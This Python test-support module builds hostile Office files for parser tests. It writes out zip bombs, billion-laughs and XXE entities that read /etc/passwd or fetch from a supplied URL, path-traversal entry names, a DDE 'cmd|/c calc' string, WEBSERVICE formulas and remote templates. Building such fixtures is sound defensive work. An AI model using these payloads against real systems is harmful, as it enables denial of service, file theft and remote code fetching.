"""Word, Excel and PowerPoint files that attack their readers."""

import struct
from collections.abc import Callable
from dataclasses import replace

from tests.support.documents.hostile.office_parts import (
    HEAD,
    INLINE,
    SHARED_CELL,
    SHEET,
    SHEET_HEAD,
    SHEET_TAIL,
    SLIDE,
    SLIDE_HEAD,
    SLIDE_TAIL,
    STRINGS,
    WORD_HEAD,
    WORD_TAIL,
    excel,
    package,
    paragraph,
    power_point,
    relations,
    sheet,
    strings,
    word,
    word_of,
)
from tests.support.documents.hostile.packing import (
    MIB,
    STORED,
    Entry,
    archive,
    bomb,
    plain,
    shared,
)
from tests.support.documents.office_files import DRAWING as A
from tests.support.documents.office_files import SHEET as S
from tests.support.documents.office_files import WORD as W

Maker = Callable[[str], bytes]
"""Makes a file; it gets the URL of a server that nobody may call."""


def laughs(root: str, levels: int = 10) -> str:
    """Return a document type whose entity `z` is ten times ten times … a text."""
    steps = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(levels))
    return f'{HEAD}<!DOCTYPE {root} [<!ENTITY a "ha">{steps}<!ENTITY z "&{chr(97 + levels)};">]>'


def quadratic(root: str) -> str:
    """Return a document type with one entity of a megabyte, to be named a thousand times."""
    return f'{HEAD}<!DOCTYPE {root} [<!ENTITY z "{"x" * MIB}">]>'


def outside(root: str, url: str) -> str:
    """Return a document type whose entity `z` is elsewhere."""
    return f'{HEAD}<!DOCTYPE {root} SYSTEM "{url}/dtd" [<!ENTITY z SYSTEM "{url}/entity">]>'


def parameters(root: str, url: str) -> str:
    """Return a document type that asks for another one by a parameter entity."""
    text = (
        f'<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % other SYSTEM "{url}/dtd">%other;'
    )
    return f'{HEAD}<!DOCTYPE {root} [{text}<!ENTITY z "z">]>'


SPACES = b" " * MIB
VBA = Entry(name="word/vbaProject.bin", packed=b"\xd0\xcf\x11\xe0", size=4, method=STORED)
TRACKED = f'{HEAD}<settings xmlns="{W}"/>'


def many(count: int) -> bytes:
    more = [plain(f"word/media/{n}.xml", "x") for n in range(count)]
    return word(paragraph("text"), *more)


def own_directory() -> bytes:
    """Return an archive whose main part lies within its directory, so that it contains itself."""
    entries = package("word/document.xml", [plain("word/document.xml", WORD_HEAD + WORD_TAIL)])
    size = sum(len(entry.local()) for entry in entries)
    inner = replace(entries[2], method=STORED, offset=size - 40, packed=b"x" * MIB, size=MIB)
    return archive([*entries[:2], inner])


def nested() -> bytes:
    data = archive([bomb("zeros.xml", bytes(MIB), 200)])
    for _ in range(8):
        data = archive([plain(f"{number}.zip", data) for number in range(4)])
    return word(paragraph("text"), plain("word/embeddings/all.zip", data))


def overlapping() -> bytes:
    part = bomb("word/document.xml", SPACES, 200, head=WORD_HEAD, tail=WORD_TAIL)
    names = ["word/document.xml", *(f"word/header{n}.xml" for n in range(2_000))]
    return shared(["[Content_Types].xml", "_rels/.rels", *names], part)


def lying(size: int) -> bytes:
    part = bomb("word/document.xml", SPACES, 500, head=WORD_HEAD, tail=WORD_TAIL)
    return word_of(replace(part, size=size))


def encrypted() -> bytes:
    entries = package("word/document.xml", [plain("word/document.xml", WORD_HEAD + WORD_TAIL)])
    return archive([*entries[:2], replace(entries[2], flags=1)])


def unknown_method() -> bytes:
    entries = package("word/document.xml", [plain("word/document.xml", WORD_HEAD + WORD_TAIL)])
    return archive([*entries[:2], replace(entries[2], method=99)])


def zip64() -> bytes:
    """Return a file that declares sixteen exabytes in the extra field of ZIP64."""
    entries = package("word/document.xml", [plain("word/document.xml", WORD_HEAD + WORD_TAIL)])
    extra = struct.pack("<HHQQ", 1, 16, 2**64 - 1, 2**64 - 1)
    return archive([*entries[:2], replace(entries[2], size=0xFFFFFFFF, extra=extra)])


def shared_many_times() -> bytes:
    text = strings("x" * 10_000)
    cell = '<row r="{0}"><c r="A{0}" t="s"><v>0</v></c></row>'
    rows = "".join(cell.format(n) for n in range(1, 100_001))
    return excel([sheet(rows)], text)


def far_cells() -> bytes:
    """Return a sheet in which ten thousand rows have a cell at both ends alone."""
    row = '<row r="{0}">' + INLINE.format("A{0}") + INLINE.format("XFD{0}") + "</row>"
    return excel([sheet("".join(row.format(n) for n in range(1, 10_001)))])


def merged() -> bytes:
    ranges = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, 1_000_001))
    return excel([sheet(SHARED_CELL, after=f"<mergeCells>{ranges}</mergeCells>")], strings("x"))


def external_links(url: str) -> bytes:
    text = f"cmd|'/c calc'!A0 {url}"
    cell = f'<row r="1"><c r="A1"><f>WEBSERVICE("{url}/cell")</f><v>1</v></c></row>'
    link = relations(("rId1", "externalLinkPath", f"{url}/book.xlsx", True))
    more = plain("xl/externalLinks/_rels/externalLink1.xml.rels", link)
    return excel([sheet(cell)], strings(text), more)


def remote_parts(url: str) -> bytes:
    """Return a Word file with a template, a picture and a frame that lie elsewhere."""
    rows = (
        ("rId1", "attachedTemplate", f"{url}/template.dotm", True),
        ("rId2", "image", f"{url}/picture.png", True),
        ("rId3", "frame", f"{url}/frame.html", True),
        ("rId4", "oleObject", f"{url}/object", True),
        ("rId5", "aFChunk", f"{url}/chunk.html", True),
    )
    names = ("word/_rels/document.xml.rels", "word/_rels/settings.xml.rels")
    drawing = f'<w:drawing><a:blip xmlns:a="{A}" r:embed="rId2" r:link="rId2"/></w:drawing>'
    body = paragraph("text") + f'<w:p><w:r>{drawing}</w:r></w:p><w:altChunk r:id="rId5"/>'
    parts = (plain(name, relations(*rows)) for name in names)
    return word(body, plain("word/settings.xml", TRACKED), *parts)


def outside_names() -> bytes:
    rows = (("rId1", "image", "../../../../etc/passwd", False), ("rId2", "image", "/", False))
    return word(
        paragraph("text"),
        plain("../../../../tmp/hostile-document", "x"),
        plain("/etc/hostile-document", "x"),
        plain("word/_rels/document.xml.rels", relations(*rows)),
    )


def deep(tag: str, levels: int) -> str:
    return f"<w:{tag}>" * levels + f"</w:{tag}>" * levels


def tables(levels: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * levels + paragraph("x") + "</w:tc></w:tr></w:tbl>" * levels


def half(maker: Maker) -> Maker:
    """Return a maker of the first half of a file."""

    def make(url: str) -> bytes:
        data = maker(url)
        return data[: len(data) // 2]

    return make


def without_end(maker: Maker) -> Maker:
    """Return a maker of a file of which the last bytes are missing."""
    return lambda url: maker(url)[:-30]


def usual_word(url: str) -> bytes:
    return word("".join(paragraph(f"Line {n}") for n in range(1_000)))


def usual_excel(url: str) -> bytes:
    return excel([sheet(SHARED_CELL)], strings("x"))


def usual_show(url: str) -> bytes:
    return power_point(plain(SLIDE, f"{HEAD}{SLIDE_HEAD}x{SLIDE_TAIL}"))


WORD: dict[str, Maker] = {
    "a main part of a gigabyte": lambda url: word_of(
        bomb("word/document.xml", SPACES, 1_000, head=WORD_HEAD, tail=WORD_TAIL)
    ),
    "archives in archives": lambda url: nested(),
    "entries that share bytes": lambda url: overlapping(),
    "an entry within the directory": lambda url: own_directory(),
    "ten thousand entries": lambda url: many(10_000),
    "a size that is too small": lambda url: lying(10),
    "a size that is too large": lambda url: lying(0xFFFFFFF0),
    "a size of exabytes": lambda url: zip64(),
    "an encrypted entry": lambda url: encrypted(),
    "an unknown method": lambda url: unknown_method(),
    "entities of entities": lambda url: word(paragraph("&z;"), head=laughs("w:document")),
    "a long entity many times": lambda url: word(
        paragraph("&z;" * 1_000), head=quadratic("w:document")
    ),
    "an entity elsewhere": lambda url: word(paragraph("&z;"), head=outside("w:document", url)),
    "an entity of a file": lambda url: word(
        paragraph("&z;"), head=outside("w:document", "file:///etc/passwd#")
    ),
    "a parameter entity elsewhere": lambda url: word(
        paragraph("&z;"), head=parameters("w:document", url)
    ),
    "parts elsewhere": remote_parts,
    "names outside of the archive": lambda url: outside_names(),
    "macros": lambda url: word(paragraph("text"), VBA),
    "a hundred thousand elements in each other": lambda url: word(deep("sdt", 100_000)),
    "tables in tables": lambda url: word(tables(3_000)),
    "a paragraph of fifty megabytes": lambda url: word_of(
        bomb("word/document.xml", b"word " * (MIB // 5), 50, head=WORD_HEAD, tail=WORD_TAIL)
    ),
    "a million paragraphs": lambda url: word_of(
        bomb(
            "word/document.xml",
            paragraph("x").encode() * 1_000,
            1_000,
            head=WORD_HEAD,
            tail=WORD_TAIL,
        )
    ),
    "an attribute of fifty megabytes": lambda url: word_of(
        bomb(
            "word/document.xml",
            b"x" * MIB,
            50,
            head=f'{HEAD}<w:document xmlns:w="{W}" w:x="',
            tail=f'"><w:body>{paragraph("x")}</w:body></w:document>',
        )
    ),
    "no XML": lambda url: word_of(plain("word/document.xml", b"\x00\xff<<<&&&" * 1_000)),
    "an encoding that is none": lambda url: word(
        paragraph("x"), head='<?xml version="1.0" encoding="UTF-7"?>'
    ),
    "half of a file": half(usual_word),
    "a file without its end": without_end(usual_word),
}

EXCEL: dict[str, Maker] = {
    "a sheet of a gigabyte": lambda url: excel(
        [bomb(SHEET, SPACES, 1_000, head=SHEET_HEAD, tail=SHEET_TAIL)]
    ),
    "entities of entities": lambda url: excel(
        [sheet(SHARED_CELL)], strings("&z;", head=laughs("sst"))
    ),
    "an entity elsewhere": lambda url: excel(
        [sheet(SHARED_CELL)], strings("&z;", head=outside("sst", url))
    ),
    "a string of two hundred megabytes": lambda url: excel(
        [sheet(SHARED_CELL)],
        bomb(STRINGS, b"x" * MIB, 200, head=f'<sst xmlns="{S}"><si><t>', tail="</t></si></sst>"),
    ),
    "one long string in a hundred thousand cells": lambda url: shared_many_times(),
    "one cell in a sheet that claims all cells": lambda url: excel(
        [sheet(SHARED_CELL, before='<dimension ref="A1:XFD1048576"/>')], strings("x")
    ),
    "cells at both ends of the sheet": lambda url: excel(
        [
            sheet(
                '<row r="1">'
                + INLINE.format("A1")
                + '</row><row r="1048576">'
                + INLINE.format("XFD1048576")
                + "</row>"
            )
        ]
    ),
    "cells at both ends of ten thousand rows": lambda url: far_cells(),
    "a million merged ranges": lambda url: merged(),
    "one merged range of all cells": lambda url: excel(
        [sheet(SHARED_CELL, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')],
        strings("x"),
    ),
    "cells at places that are none": lambda url: excel(
        [sheet('<row r="-1"><c r="ZZZZZZZ99999999999999999999"><v>1e999</v></c><c r=""/></row>')]
    ),
    "a string that is not there": lambda url: excel(
        [sheet('<row r="1"><c r="A1" t="s"><v>4294967295</v></c></row>')], strings("x")
    ),
    "five thousand sheets": lambda url: excel([sheet(SHARED_CELL)] * 5_000, strings("x")),
    "escaped halves of characters": lambda url: excel(
        [sheet(SHARED_CELL)], strings("_xD800_ _x0000_ _xFFFF_")
    ),
    "formulas and links elsewhere": external_links,
    "half of a file": half(usual_excel),
}

POWER_POINT: dict[str, Maker] = {
    "a slide of a gigabyte": lambda url: power_point(
        bomb(SLIDE, SPACES, 1_000, head=SLIDE_HEAD, tail=SLIDE_TAIL)
    ),
    "entities of entities": lambda url: power_point(
        plain(SLIDE, f"{laughs('p:sld')}{SLIDE_HEAD}&z;{SLIDE_TAIL}")
    ),
    "five thousand slides": lambda url: power_point(
        plain(SLIDE, f"{HEAD}{SLIDE_HEAD}x{SLIDE_TAIL}"), 5_000
    ),
    "one slide of two megabytes many times": lambda url: power_point(
        plain(SLIDE, f"{HEAD}{SLIDE_HEAD}{'x ' * MIB}{SLIDE_TAIL}"), 400
    ),
    "groups in groups": lambda url: power_point(
        plain(SLIDE, SLIDE_HEAD.replace("<p:sp>", "<p:grpSp>" * 50_000 + "<p:sp>"))
    ),
    "half of a file": half(usual_show),
}
